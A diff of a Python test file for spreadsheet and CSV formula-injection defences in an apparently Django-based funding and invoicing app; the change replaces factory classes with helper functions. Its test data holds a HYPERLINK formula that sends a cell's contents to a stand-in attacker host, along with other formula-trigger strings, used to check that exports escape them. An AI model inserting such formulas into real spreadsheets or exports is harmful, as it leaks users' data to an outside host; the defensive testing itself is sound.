@@ -17,9 +17,9 @@ from openpyxl import load_workbook
 from funding.models import Expense, FundingSource
 from smartiberica.kernel.importing import ImportResult
 from smartiberica.kernel.spreadsheet_safety import FORMULA_TRIGGERS, escape_csv_text, unescape_csv_text
-from tests.funding.factories import ExpenseFactory
+from tests.funding.factories import make_expense
 from tests.imports.test_admin import url
-from tests.services.factories import ClientFactory, InvoiceFactory
+from tests.services.factories import make_client, make_invoice
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 NASTY = {"E-1": LINK, "E-2": "+34 600 000 000", "E-3": "-minus", "E-4": "@SUM(A1:A9)", "E-5": "'=SUM(1)"}
@@ -47,7 +47,7 @@ def test_an_apostrophe_before_ordinary_text_is_kept_on_import() -> None:
 @pytest.fixture
 def nasty_expenses(imported_examples: dict[str, ImportResult]) -> None:
     for reference, supplier in NASTY.items():
-        ExpenseFactory(reference=reference, supplier=supplier, description=supplier)
+        make_expense(reference=reference, supplier=supplier, description=supplier)
 
 
 def test_the_staff_csv_export_writes_formulas_as_text_and_re_imports_unchanged(
@@ -98,7 +98,7 @@ def test_a_csv_import_removes_the_apostrophe_an_export_added(run: Callable[..., 
 
 @pytest.fixture
 def nasty_client(db: None) -> None:
-    InvoiceFactory(client=ClientFactory(name=LINK), issue_date=date(2024, 3, 1))
+    make_invoice(client=make_client(name=LINK), issue_date=date(2024, 3, 1))
 
 
 def test_the_board_csv_export_writes_a_formula_name_as_text(nasty_client: None, board_client: Client) -> None:
